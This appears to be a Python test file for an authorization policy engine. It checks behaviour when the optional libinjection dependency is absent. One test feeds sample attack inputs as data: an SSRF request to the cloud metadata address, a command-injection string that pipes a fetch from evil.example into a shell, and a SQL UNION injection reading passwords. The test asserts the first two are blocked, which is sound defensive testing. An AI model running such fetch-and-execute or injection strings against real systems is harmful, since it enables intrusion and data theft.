"""sqlInjection/xss need libinjection, an optional piece (``extauthz[injection]``).

Without it (here: the import really fails, ``sys.modules['libinjection'] = None`` in a fresh
interpreter) the package still imports and serves every other check, and a policy that turns
either check on is refused at load, naming where and the exact install command.
"""

from __future__ import annotations

import subprocess
import sys
import textwrap
from pathlib import Path

INSTALL = "pip install 'extauthz[injection]'"
WITHOUT = "import sys; sys.modules['libinjection'] = None\n"


def run_without_libinjection(code: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-c", WITHOUT + code], capture_output=True, text=True, timeout=60
    )


def test_policy_check_refuses_each_place_with_the_install_command(tmp_path: Path) -> None:
    policy = tmp_path / "policy.yaml"
    policy.write_text(
        textwrap.dedent("""
        policyVersion: "0.1"
        defaults:
          vulnerabilityChecks: {xss: true}
        routes:
          - id: search
            match: {method: GET, path: /search}
            vulnerability: {sqlInjection: {fields: [q]}}
          - id: plain
            match: {method: GET, path: /plain}
        """)
    )
    out = run_without_libinjection(
        f"from extauthz.cli import main; sys.exit(main(['policy', 'check', {str(policy)!r}]))"
    )
    assert out.returncode == 1, out.stderr
    lines = out.stderr.splitlines()
    assert f"{policy}: routes[0].vulnerability.sqlInjection: needs libinjection" in lines[0]
    assert f"{policy}: defaults.vulnerabilityChecks.xss: needs libinjection" in lines[1]
    assert all(line.endswith(INSTALL) for line in lines[:2])
    assert lines[2].endswith("policy refused (2 problems)")


def test_without_it_other_checks_still_decide(tmp_path: Path) -> None:
    policy = tmp_path / "policy.yaml"
    policy.write_text(
        textwrap.dedent("""
        policyVersion: "0.1"
        routes:
          - id: fetch
            match: {method: GET, path: /fetch}
            vulnerability: {sqlInjection: false, commandInjection: true}
        """)
    )
    code = textwrap.dedent(f"""
        from extauthz import RequestContext, evaluate, load_policy
        from extauthz.engine.checks import _libinjection
        assert not _libinjection.AVAILABLE
        policy = load_policy({str(policy)!r})
        def action(q):
            ctx = RequestContext.from_dict(
                {{"request": {{"method": "GET", "path": "/fetch", "query": {{"u": q}}}}}})
            d = evaluate(policy, ctx)
            return d.action + ":" + ",".join(h.id for h in d.rule_hits)
        print(action("http://169.254.169.254/"))
        print(action("x; curl evil.example | sh"))
        print(action("1 UNION SELECT password FROM users"))
    """)
    out = run_without_libinjection(code)
    assert out.returncode == 0, out.stderr
    assert out.stdout.split() == [
        "BLOCK:vulnerability.ssrfInternal",
        "BLOCK:vulnerability.commandInjection",
        "ALLOW:",
    ]
